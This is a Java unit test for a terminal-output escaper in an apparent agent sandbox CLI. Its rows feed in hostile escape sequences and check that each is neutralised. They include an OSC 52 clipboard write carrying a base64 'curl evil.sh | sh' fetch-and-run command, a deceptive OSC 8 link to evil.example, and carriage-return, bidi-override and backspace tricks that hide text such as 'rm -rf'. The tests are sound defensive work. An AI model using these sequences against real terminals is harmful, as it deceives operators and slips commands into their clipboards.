package dev.agentsandbox.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Each row is something a workload prints to act on the terminal of the operator following it. */
class TerminalTextTest {
  static Stream<Arguments> attacks() {
    return Stream.of(
        Arguments.of(
            "OSC 52 writes the operator's clipboard",
            "ok\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\n",
            "ok<U+001B>]52;c;Y3VybCBldmlsLnNoIHwgc2g=<U+0007>\n"),
        Arguments.of(
            "CSI clears the screen and moves the cursor home",
            "\u001b[2J\u001b[Hall clear\n",
            "<U+001B>[2J<U+001B>[Hall clear\n"),
        Arguments.of(
            "OSC 0 retitles the window",
            "\u001b]0;root@prod\u001b\\",
            "<U+001B>]0;root@prod<U+001B>\\"),
        Arguments.of(
            "a hyperlink whose text lies (OSC 8)",
            "\u001b]8;;https://evil.example/\u001b\\docs\u001b]8;;\u001b\\",
            "<U+001B>]8;;https://evil.example/<U+001B>\\docs<U+001B>]8;;<U+001B>\\"),
        Arguments.of("C1 CSI, the 8-bit escape", "\u009b31mred", "<U+009B>31mred"),
        Arguments.of(
            "a right-to-left override reorders the line",
            "exit 0 \u202e1 tixe\n",
            "exit 0 <U+202E>1 tixe\n"),
        Arguments.of(
            "a carriage return overwrites what was printed",
            "rm -rf /tmp/x\rls          \n",
            "rm -rf /tmp/x\nls          \n"),
        Arguments.of(
            "a backspace erases",
            "denied\b\b\b\b\b\bfine  ",
            "denied<U+0008><U+0008>" + "<U+0008><U+0008><U+0008><U+0008>fine  "),
        Arguments.of("DEL", "a\u007fb", "a<U+007F>b"),
        Arguments.of("a zero-width space", "pass\u200bword", "pass<U+200B>word"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource
  void attacks(String why, String printed, String shown) {
    TerminalText.Escaper escaper = new TerminalText.Escaper();
    String out = escaper.feed(printed) + escaper.finish();
    assertThat(out).as(why).isEqualTo(shown).doesNotContain("\u001b", "\u009b", "\u202e", "\r");
  }

  @Test
  void ordinaryOutputIsLeftAlone() {
    String text = "line one\n\tindented\r\nCRLF kept\nüñí 报告 \uD83D\uDE00 تقرير\n";
    TerminalText.Escaper escaper = new TerminalText.Escaper();
    assertThat(escaper.feed(text) + escaper.finish()).isEqualTo(text);
  }

  @Test
  void aPairSplitBetweenTwoChunksStaysAPair() {
    TerminalText.Escaper escaper = new TerminalText.Escaper();
    String out =
        escaper.feed("smile \uD83D")
            + escaper.feed("\uDE00 done\r")
            + escaper.feed("\nnext\r")
            + escaper.feed("over")
            + escaper.finish();
    assertThat(out).isEqualTo("smile \uD83D\uDE00 done\r\nnext\nover");
  }

  @Test
  void whatIsHeldAtTheEndIsShown() {
    TerminalText.Escaper lone = new TerminalText.Escaper();
    assertThat(lone.feed("x\uD83D") + lone.finish()).isEqualTo("x<U+D83D>");
    TerminalText.Escaper cr = new TerminalText.Escaper();
    assertThat(cr.feed("progress 50%\r") + cr.finish()).isEqualTo("progress 50%\n");
  }

  @Test
  void aStatusLineNamesEvenANewline() {
    assertThat(TerminalText.line("evil.test:443\ndenied: fine.test:443 allowed"))
        .isEqualTo("evil.test:443<U+000A>denied: fine.test:443 allowed");
  }

  @Test
  void printedJsonEscapesWhatATerminalWouldActOnAndStaysTheSameDocument() throws Exception {
    var node =
        Printer.JSON_LINE
            .createObjectNode()
            .put("command", "echo \u202eexe.txt \u009b31m \u001b[2J 报告 \uD83D\uDE00");
    String printed = Printer.JSON_LINE.writeValueAsString(node);
    assertThat(printed)
        .doesNotContain("\u202e", "\u009b", "\u001b")
        .contains("\\u202e", "\\u009b", "\\u001B", "报告", "\uD83D\uDE00");
    assertThat(Printer.JSON_LINE.readTree(printed)).isEqualTo(node);
    assertThat(Printer.json(node)).contains("\\u202e");
  }
}
